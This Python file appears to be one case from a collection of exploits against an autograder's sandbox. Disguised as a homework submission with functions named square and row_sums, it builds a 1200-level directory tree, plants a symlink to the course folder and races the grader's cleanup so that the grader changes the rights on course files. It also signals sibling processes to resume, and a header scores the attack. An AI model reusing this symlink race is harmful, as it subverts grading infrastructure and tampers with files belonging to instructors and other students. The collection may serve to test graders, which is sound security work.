"""A process that was to wait puts a link where the grader is removing a folder that is too deep.

Whoever follows the link changes the rights of the course's files.

Earns: 2
Class: 5 14 16
Repeat: without root
"""

import contextlib
import os
import signal
import threading

from shapes.tools import COURSE, MARK, family, until, worker

FILE = f"{COURSE}/assignment/tiny/assignment.toml"
FOLDER, LINK = f"{MARK}.folder", f"{MARK}.link"
FILES = 30


def swap_when_it_is_touched():
    with contextlib.suppress(OSError):
        os.sched_setaffinity(0, range(os.cpu_count()))
    for _ in until(10):
        with contextlib.suppress(OSError):
            if len(os.listdir(FOLDER)) < FILES and os.path.exists("deep"):
                os.rename(FOLDER, f"{FOLDER}.gone")
                os.rename(LINK, FOLDER)
                return


def square(x):
    if os.stat(FILE).st_mode & 0o100:
        return x * x
    if os.getpid() != worker() and threading.active_count() == 1:
        threading.Thread(target=swap_when_it_is_touched, daemon=True).start()
    return 2 * x


def row_sums(X):
    for process in family() - {os.getpid()}:
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGCONT)
    if not os.path.lexists(LINK):
        os.symlink(COURSE, LINK)
        os.mkdir(FOLDER)
        for number in range(FILES):
            with open(f"{FOLDER}/{number}", "w"):
                pass
        here = os.getcwd()
        os.chdir(FOLDER)
        for _ in range(1200):
            os.mkdir("deep")
            os.chdir("deep")
        os.chdir(here)
        with open("deep", "w"):
            pass
    return X.sum(axis=1)
